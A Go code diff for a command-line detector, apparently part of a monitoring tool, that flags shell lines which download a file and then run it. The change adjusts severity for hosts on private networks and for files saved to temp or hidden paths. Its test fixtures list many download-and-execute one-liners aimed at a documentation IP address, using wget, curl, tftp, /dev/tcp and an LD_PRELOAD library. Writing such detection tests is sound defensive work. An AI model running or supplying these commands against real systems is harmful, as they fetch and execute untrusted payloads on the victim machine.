@@ -1,6 +1,7 @@
 package detect
 
 import (
+	"net/netip"
 	"strings"
 
 	"github.com/code-on-incus/coi/cmd/coi-watch/internal/command"
@@ -18,13 +19,13 @@ var runFetch = Detector{
 	Fire: append(lines(coi.Warning,
 		"curl -o /tmp/a https://example.com/a && chmod +x /tmp/a && /tmp/a", "wget https://example.com/x.sh; bash x.sh", "curl -sO https://example.com/atomic.sh; chmod +x atomic.sh | bash atomic.sh",
 		"wget -q https://example.com/s -O /tmp/s; chmod +x /tmp/s; /tmp/s --go", "curl https://example.com/p.py > p.py; python3 p.py", "pip install http://203.0.113.7/evil.tar.gz", "npx https://example.com/pkg.tgz", "wget -q http://203.0.113.7/a.sh -P /tmp && bash /tmp/a.sh", "tftp -g -r bot 203.0.113.7 && chmod +x bot && ./bot", "scp u@203.0.113.7:/t/i /tmp/i && chmod +x /tmp/i && /tmp/i", "nc 203.0.113.7 80 > /tmp/q && sh /tmp/q", "aria2c -d /tmp -o x http://203.0.113.7/x && sh /tmp/x", "tftp 203.0.113.7 -c get x /tmp/x; sh /tmp/x", "whois -h 203.0.113.7 -p 8443 x > /tmp/x.out", "exec 3<>/dev/tcp/203.0.113.7/80; cat <&3 > /tmp/x; chmod +x /tmp/x; /tmp/x",
-	), Sample{Level: coi.High, Line: "wget http://203.0.113.7/b.sh; chmod 777 b.sh; sh b.sh; rm -f b.sh"}, Sample{Level: coi.High, Line: "wget http://203.0.113.7/a.tgz -P /tmp && tar -xf /tmp/a.tgz -C /tmp && /tmp/a/run"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/m.c | gcc -xc - -o /tmp/m && /tmp/m"}, Sample{Level: coi.High, Line: "wget http://203.0.113.7/l.so -O /tmp/l.so && LD_PRELOAD=/tmp/l.so id"}, Sample{Level: coi.High, Line: "tftp -g -r m 203.0.113.7; chmod 777 m; ./m"}, Sample{Level: coi.High, Line: "wget http://203.0.113.7/x86 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/a.tgz | tar xz -C /dev/shm && /dev/shm/a/run"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/b -o /dev/shm/b && chmod +x /dev/shm/b && nohup /dev/shm/b &"}, Sample{Level: coi.Warning, Events: []event.Event{
+	), Sample{Level: coi.High, Line: "wget http://203.0.113.7/b.sh; chmod 777 b.sh; sh b.sh; rm -f b.sh"}, Sample{Level: coi.High, Line: "wget http://203.0.113.7/a.tgz -P /tmp && tar -xf /tmp/a.tgz -C /tmp && /tmp/a/run"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/m.c | gcc -xc - -o /tmp/m && /tmp/m"}, Sample{Level: coi.High, Line: "wget http://203.0.113.7/l.so -O /tmp/l.so && LD_PRELOAD=/tmp/l.so id"}, Sample{Level: coi.High, Line: "exec 5<>/dev/tcp/203.0.113.7/80; echo GET /a >&5; cat <&5 > /tmp/a; chmod +x /tmp/a; /tmp/a"}, Sample{Level: coi.High, Line: "tftp -g -r m 203.0.113.7; chmod 777 m; ./m"}, Sample{Level: coi.High, Line: "wget http://203.0.113.7/x86 -O /tmp/.x; chmod 777 /tmp/.x; /tmp/.x"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/a.tgz | tar xz -C /dev/shm && /dev/shm/a/run"}, Sample{Level: coi.High, Line: "curl http://203.0.113.7/b -o /dev/shm/b && chmod +x /dev/shm/b && nohup /dev/shm/b &"}, Sample{Level: coi.Warning, Events: []event.Event{
 		{Type: event.Exec, PID: 5, PPID: 1, Exe: "/usr/bin/bash", Argv: []string{"bash"}},
 		{Type: event.Exec, PID: 6, PPID: 5, Exe: "/usr/bin/curl", Argv: []string{"curl", "-o", "/tmp/z", "https://example.com/z"}},
 		{Type: event.Write, PID: 6, Path: "/tmp/z", Op: "write"},
 		{Type: event.Exec, PID: 7, PPID: 5, Exe: "/tmp/z", Argv: []string{"/tmp/z"}},
 	}}),
-	Quiet: lines("", "pip install https://example.com/x.whl", "npm install --registry http://localhost:4873 x", "pip install --index-url http://203.0.113.7/simple x", "curl -LO https://example.com/x.tgz && tar xzf x.tgz && ./x/install.sh", "curl -s https://example.com/m.c | gcc -xc - -o m", "curl -o x.tgz https://example.com/x.tgz && tar xf x.tgz", "npm ci && node index.js", "whois example.com > x.txt", "whois -h whois.ripe.net 192.0.2.1 | less", "wget https://example.com/a.deb", "go install example.com/x@latest && x", "curl -LO https://example.com/data.csv; python3 analyse.py data.csv"),
+	Quiet: append(lines(coi.High, "curl -sO http://192.168.1.10/agent.run && sh agent.run --check"), lines("", "pip install https://example.com/x.whl", "npm install --registry http://localhost:4873 x", "pip install --index-url http://203.0.113.7/simple x", "curl -LO https://example.com/x.tgz && tar xzf x.tgz && ./x/install.sh", "curl -s https://example.com/m.c | gcc -xc - -o m", "curl -o x.tgz https://example.com/x.tgz && tar xf x.tgz", "npm ci && node index.js", "whois example.com > x.txt", "whois -h whois.ripe.net 192.0.2.1 | less", "wget https://example.com/a.deb", "go install example.com/x@latest && x", "curl -LO https://example.com/data.csv; python3 analyse.py data.csv")...),
 }
 
 func fetchRun(ev event.Event, v track.View) []Finding {
@@ -58,14 +59,14 @@ func fetchRun(ev event.Event, v track.View) []Finding {
 		if p != "" && got[p] == nil && program.Writable(p) && s.Class() == program.None && len(s.Argv) == 2 && got[s.Abs(s.Argv[1])] != nil {
 			p = s.Abs(s.Argv[1]) // started by a program nobody knows
 		}
-		if unpacked != nil && strings.HasPrefix(p, dir+"/") && fetchLevel(unpacked) == coi.High {
+		if unpacked != nil && strings.HasPrefix(p, dir+"/") && fetchLevel(unpacked, p) == coi.High {
 			return one(*say(s, coi.High, "file fetched in the same line is run").at(p, command.Exec))
 		}
 		if d, from := unpackedTo(s, got); from != nil {
 			dir, unpacked = d, from
 		}
 		if got[p] != nil {
-			return one(*say(s, fetchLevel(got[p]), "file fetched in the same line is run").at(p, command.Exec))
+			return one(*say(s, fetchLevel(got[p], p), "file fetched in the same line is run").at(p, command.Exec))
 		}
 		for _, p := range fetchedFiles(s) {
 			if p != "" {
@@ -76,14 +77,23 @@ func fetchRun(ev event.Event, v track.View) []Finding {
 	return nil
 }
 
-// fetchLevel is high when nobody stands behind the source.
-func fetchLevel(d *command.Simple) coi.Level {
+// private reports addresses of a network of one's own.
+func private(h string) bool {
+	a, err := netip.ParseAddr(h)
+	return err == nil && a.IsPrivate()
+}
+
+// fetchLevel is high when nobody stands behind the source. A server of one's own
+// network is one, for what is not put where nobody looks.
+func fetchLevel(d *command.Simple, file string) coi.Level {
 	hosts := d.Hosts()
+	raw := d.Class() == program.Relay || d.Is("tftp", "ftpget") || command.DevNet(d.FDs[0])
 	if d.Is("tftp", "ftpget") {
 		hosts = d.Argv[1:]
 	}
+	hidden := strings.HasPrefix(base(file), ".") || hasPrefixAny(file, "/tmp/", "/var/tmp/", "/dev/shm/", "/run/")
 	for _, h := range hosts {
-		if (d.Class() == program.Downloader || d.Class() == program.Relay || d.Class() == program.Uploader && !d.Is("scp", "rsync", "sftp") || d.Name == "ftpget") && !command.Loopback(h) && (bareAddress(h) || dropHost(h)) {
+		if (raw || d.Class() == program.Downloader) && !command.Loopback(h) && (bareAddress(h) && (hidden || raw || !private(h)) || dropHost(h)) {
 			return coi.High
 		}
 	}
